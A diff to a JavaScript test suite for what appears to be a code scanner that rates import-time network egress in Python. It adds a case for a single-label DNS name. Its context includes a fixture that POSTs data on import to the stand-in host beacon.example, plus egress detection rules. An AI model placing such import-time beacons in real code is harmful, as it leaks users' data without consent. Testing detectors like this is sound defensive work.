@@ -136,6 +136,8 @@ test('a DNS query or a request with a body, made on import to a named host, is a
   const post = findings('import requests\nrequests.post("https://beacon.example/p.php", data={"t": "hello"})\n');
   assert.equal(ruleOf(post, 'egress-network-call')?.severity, 'high');
   // the same calls made only when the user calls them, and a plain GET on import, stay below high
+  const single = findings('import socket\nsocket.gethostbyname_ex("nonexistent")\n');
+  assert.notEqual(ruleOf(single, 'egress-dns-lookup')?.severity, 'high', 'a name of one label reaches no domain');
   const called = findings('import socket\ndef check():\n    socket.gethostbyname("demo.callbacks.example")\n');
   assert.equal(ruleOf(called, 'egress-dns-lookup')?.severity, 'low');
   const get = findings('import requests\nrequests.get("https://api.example/version")\n');
